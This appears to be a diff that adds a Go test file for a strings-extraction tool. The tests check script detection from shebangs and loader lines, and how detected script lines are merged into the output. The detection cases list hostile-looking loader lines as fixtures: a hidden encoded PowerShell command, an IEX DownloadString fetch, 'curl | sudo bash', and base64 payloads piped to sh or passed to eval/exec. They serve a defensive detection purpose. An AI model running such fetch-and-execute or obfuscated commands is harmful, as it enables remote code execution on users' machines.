@@ -0,0 +1,118 @@
+package extractor
+
+import (
+	"bytes"
+	"regexp"
+	"strings"
+	"testing"
+)
+
+// TestDetectScriptType tests script detection from shebangs and loader lines
+func TestDetectScriptType(t *testing.T) {
+	tests := []struct {
+		input string
+		want  string
+	}{
+		{"#!/bin/sh\necho hi", ScriptShell},
+		{"  #!/bin/bash -e", ScriptShell},
+		{"#!/usr/bin/env python3", ScriptPython},
+		{"#!/usr/bin/env node", ScriptJavaScript},
+		{"#!/usr/bin/perl5.30 -w", ScriptPerl},
+		{"#!/usr/bin/awk -f", "awk"},
+		{"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABO", ScriptPowerShell},
+		{"$b=[System.Convert]::FromBase64String('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABO')", ScriptPowerShell},
+		{"IEX (New-Object Net.WebClient).DownloadString('http://x/a')", ScriptPowerShell},
+		{"eval(atob('ZnVuY3Rpb24gZm9vKCkgeyByZXR1cm4gMTsgfSBmb28oKTs='))", ScriptJavaScript},
+		{"eval(function(p,a,c,k,e,d){return p})", ScriptJavaScript},
+		{"<script type=\"text/javascript\">", ScriptJavaScript},
+		{"echo ZWNobyBoZWxsbyB3b3JsZDsgcm0gLXJmIC90bXAveA== | base64 -d | sh", ScriptShell},
+		{"curl -fsSL http://example.com/i.sh | sudo bash", ScriptShell},
+		{"exec(base64.b64decode('cHJpbnQoMSk='))", ScriptPython},
+
+		// Not scripts
+		{"#!CqweR", ""},
+		{"# comment", ""},
+		{"run powershell to configure", ""},
+		{"powershell -enc short", ""},
+		{"curl: (6) could not resolve host", ""},
+		{"hello world\n#!/bin/sh", ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.input, func(t *testing.T) {
+			if got := DetectScriptType([]byte(tt.input)); got != tt.want {
+				t.Errorf("DetectScriptType(%q) = %q, want %q", tt.input, got, tt.want)
+			}
+		})
+	}
+}
+
+// TestExtractStringsScripts tests that --scripts merges script lines and leaves
+// other strings exactly as without it
+func TestExtractStringsScripts(t *testing.T) {
+	input := []byte("\x00\x01plain text\tafter tab\nnext line\x00" +
+		"#!/bin/sh\nset -e\nif true; then\n\techo hi\nfi\n\x00" +
+		"\x02xyz\x00")
+
+	type result struct {
+		str    string
+		offset int64
+	}
+	extract := func(config Config, data []byte) []result {
+		var results []result
+		collect := func(str []byte, _ string, offset int64, _ Config) {
+			results = append(results, result{string(str), offset})
+		}
+		ExtractStrings(bytes.NewReader(data), "test", config, collect)
+		var fromSection []result
+		ExtractFromSection(data, "", 0, "test", config, func(str []byte, _ string, offset int64, _ Config) {
+			fromSection = append(fromSection, result{string(str), offset})
+		})
+		if len(fromSection) != len(results) {
+			t.Errorf("ExtractFromSection() = %v, ExtractStrings() = %v", fromSection, results)
+		}
+		return results
+	}
+
+	config := Config{MinLength: 4, Encoding: "s"}
+	scripts := config
+	scripts.Scripts = true
+
+	got := extract(scripts, input)
+	want := []result{
+		{"plain text\tafter tab", 2},
+		{"next line", 23},
+		{"#!/bin/sh\nset -e\nif true; then\n\techo hi\nfi", 33},
+	}
+	if len(got) != len(want) {
+		t.Fatalf("ExtractStrings(--scripts) = %v, want %v", got, want)
+	}
+	for i := range want {
+		if got[i] != want[i] {
+			t.Errorf("string %d = %+v, want %+v", i, got[i], want[i])
+		}
+	}
+
+	// Without scripts in the input the output is unchanged, including filters
+	text := []byte("alpha\tbeta gamma\ndelta\r\nab\x00epsilon zeta\n")
+	config.ExcludePatterns = []*regexp.Regexp{regexp.MustCompile("delta")}
+	scripts.ExcludePatterns = config.ExcludePatterns
+	plain, merged := extract(config, text), extract(scripts, text)
+	if len(plain) != len(merged) {
+		t.Fatalf("--scripts changed output: %v, want %v", merged, plain)
+	}
+	for i := range plain {
+		if plain[i] != merged[i] {
+			t.Errorf("--scripts string %d = %+v, want %+v", i, merged[i], plain[i])
+		}
+	}
+
+	// Scripts are left alone for multi-byte encodings
+	utf16 := scripts
+	utf16.Encoding = "l"
+	for _, r := range extract(utf16, []byte("#\x00!\x00/\x00b\x00i\x00n\x00/\x00s\x00h\x00\n\x00")) {
+		if strings.Contains(r.str, "\n") {
+			t.Errorf("UTF-16 string %q contains a line break", r.str)
+		}
+	}
+}